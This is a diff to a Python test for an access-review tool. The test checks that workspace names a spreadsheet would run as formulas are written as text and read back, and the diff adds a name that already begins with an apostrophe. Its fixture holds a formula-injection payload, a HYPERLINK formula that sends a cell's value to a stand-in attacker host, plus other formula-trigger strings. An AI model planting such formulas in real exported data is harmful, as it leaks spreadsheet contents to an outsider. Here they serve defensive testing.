@@ -354,11 +354,15 @@ def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read
     the reviewer's spreadsheet. The cell gets a leading apostrophe (shown as text), which the
     queueing reads away, so the row still names its grant."""
     sandbox, org, database = env
-    workspace = org.shared_workspaces()[0]
+    workspace, dutch = org.shared_workspaces()[:2]
     formula = '=HYPERLINK("http://evil.example/?"&A2,"Ada")'
     with duckdb.connect(str(database.path)) as conn:  # as if LangSmith had listed these names
         conn.execute("UPDATE main.workspaces SET display_name = '-Ops' WHERE workspace_id = ?", [workspace.id])
         conn.execute("UPDATE main.review_sheet SET workspace_name = '-Ops' WHERE workspace_id = ?", [workspace.id])
+        # A name that starts with an apostrophe of its own keeps it.
+        conn.execute("UPDATE main.workspaces SET display_name = ? WHERE workspace_id = ?", ["'s-Hertogenbosch", dutch.id])
+        conn.execute("UPDATE main.review_sheet SET workspace_name = ? WHERE workspace_id = ?",
+                     ["'s-Hertogenbosch", dutch.id])
         conn.execute("UPDATE main.review_sheet SET full_name = ?", [formula])
         # Every character a spreadsheet starts a formula with (or skips before one), not only '='.
         others = ["+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
@@ -372,10 +376,13 @@ def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read
     marked = active_rows(rows, workspace.id)[0]
     assert marked["workspace_name"] == "'-Ops"
     marked["decision"] = "revoke"
+    other = active_rows(rows, dutch.id)[0]
+    assert other["workspace_name"] == "'s-Hertogenbosch"
+    other["decision"] = "revoke"
     write_sheet(sheet, rows)
     code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
     assert code == 0, stdout
-    assert [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue"]
+    assert [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue", "would_queue"], stdout
 
 
 def test_names_holding_unicode_line_breaks_read_back_from_the_exported_sheet(env, tmp_path, capsys):
